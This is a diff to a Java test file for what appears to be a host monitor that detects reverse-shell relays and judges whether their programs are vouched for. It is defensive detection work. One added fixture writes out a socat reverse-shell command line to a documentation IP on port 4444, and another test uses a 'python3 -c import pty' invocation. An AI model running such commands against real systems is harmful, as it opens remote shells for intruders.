@@ -83,6 +83,31 @@ class ShellRelayStandingsTest {
     }
 
     @Test
+    void the_program_of_an_interpreter_and_of_a_loader_says_nothing_of_what_it_runs() {
+        SampleBuilder java = program("/usr/lib/jvm/java-21/bin/java").commandLine("java", "-jar", "/home/kim/x.jar");
+        assertThat(standing(java.cgroup(SERVICE), true, 0, State.UNCHANGED)).isEqualTo(Standing.NOBODY);
+        SampleBuilder loader = program("/usr/lib64/ld-linux-x86-64.so.2")
+                .commandLine("/lib64/ld-linux-x86-64.so.2", "/var/lib/x/relay");
+        assertThat(standing(loader.cgroup(SERVICE), false, 0, State.UNCHANGED)).isEqualTo(Standing.NOBODY);
+        SampleBuilder socat = program("/usr/bin/socat").commandLine("socat", "TCP:203.0.113.9:4444", "EXEC:sh,pty");
+        assertThat(standing(socat.cgroup(SERVICE), false, 0, State.UNCHANGED)).isEqualTo(Standing.NOBODY);
+    }
+
+    @Test
+    void a_relay_that_has_ended_hands_on_nothing_any_more() {
+        ShellRelay ended = new ShellRelay(
+                998,
+                "sshd",
+                new Connection(InetAddress.ofLiteral("203.0.113.9"), 4444, 40_000, false),
+                false,
+                true,
+                Standing.NOBODY);
+        assertThat(judged(ended, program("/usr/sbin/sshd").pid(999).build(), 0, State.UNCHANGED)
+                        .shellRelay())
+                .isEmpty();
+    }
+
+    @Test
     void nobody_vouches_for_what_an_interpreter_was_given_as_a_text() {
         SampleBuilder python = program("/usr/bin/python3.13").commandLine("python3", "-c", "import pty");
         assertThat(standing(python.cgroup(SERVICE), true, 0, State.UNCHANGED)).isEqualTo(Standing.NOBODY);
@@ -90,14 +115,19 @@ class ShellRelayStandingsTest {
 
     private static Standing standing(SampleBuilder builder, boolean interpreter, int owner, State state) {
         ProcessSample process = builder.pid(999).build();
+        Connection connection = new Connection(InetAddress.ofLiteral("203.0.113.9"), 4444, 40_000, false);
+        String path = process.executable().orElseThrow();
+        String name = path.substring(path.lastIndexOf('/') + 1);
+        ShellRelay relay = new ShellRelay(999, name, connection, interpreter, true, Standing.NOBODY);
+        return judged(relay, process, owner, state).shellRelay().orElseThrow().standing();
+    }
+
+    private static Relations judged(ShellRelay relay, ProcessSample process, int owner, State state) {
         FileOrigin origin = new FileOrigin(process.executable().orElseThrow(), state, Optional.empty());
         ShellRelayStandings standings = new ShellRelayStandings(
                 new ExecutableLocations(List.of("/usr", "/opt"), (_, path) -> access(path, owner)),
                 (_, path) -> access(path, owner),
                 (_, _) -> new Provenance(Optional.of(origin), Optional.empty(), Optional.empty()));
-        Connection connection = new Connection(InetAddress.ofLiteral("203.0.113.9"), 4444, 40_000, false);
-        String name = origin.path().substring(origin.path().lastIndexOf('/') + 1);
-        ShellRelay relay = new ShellRelay(999, name, connection, interpreter, true, Standing.NOBODY);
         return standings
                 .judged(
                         Behaviour.NONE.with(Relations.NONE.with(relay)),
@@ -107,10 +137,7 @@ class ShellRelayStandingsTest {
                                 List.of(process),
                                 Map.<Integer, List<ListeningSocket>>of(),
                                 0))
-                .relations()
-                .shellRelay()
-                .orElseThrow()
-                .standing();
+                .relations();
     }
 
     private static Optional<FileAccess> access(String path, int owner) {
